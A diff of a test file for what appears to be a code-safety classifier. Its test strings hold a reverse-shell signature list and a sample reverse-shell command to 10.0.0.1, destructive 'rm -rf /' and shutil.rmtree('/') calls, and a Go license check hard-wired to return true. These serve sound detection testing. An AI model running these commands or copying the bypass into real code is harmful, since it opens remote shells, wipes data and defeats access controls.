@@ -57,6 +57,8 @@ test('offensive tools are judged by their class; asking them for help is not an 
 test('code that only lists or tests payloads is data; code whose comment says a check is bypassed is not', () => {
   const detector = "SIGNATURES = ['bash -i >& /dev/tcp/', 'nc -e /bin/sh']\n\ndef test_flags_shell():\n    assert detect('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')";
   assert.equal(check({ type: 'code', value: detector, metadata: { language: 'python' } }).level, 'SAFE');
+  assert.equal(check({ type: 'code', value: "def test_split():\n    assert split_cmd('rm -rf /') == ['rm', '-rf', '/']" }).level, 'SAFE');
+  assert.notEqual(check({ type: 'code', value: "def test_cleanup():\n    shutil.rmtree('/')\n    assert True" }).level, 'SAFE');
   const bypass = 'func ValidateLicense(k string) bool {\n\treturn true // skip validation for every tenant until billing is fixed\n}';
   assert.notEqual(check({ type: 'code', value: bypass, metadata: { language: 'go' } }).level, 'SAFE');
 });
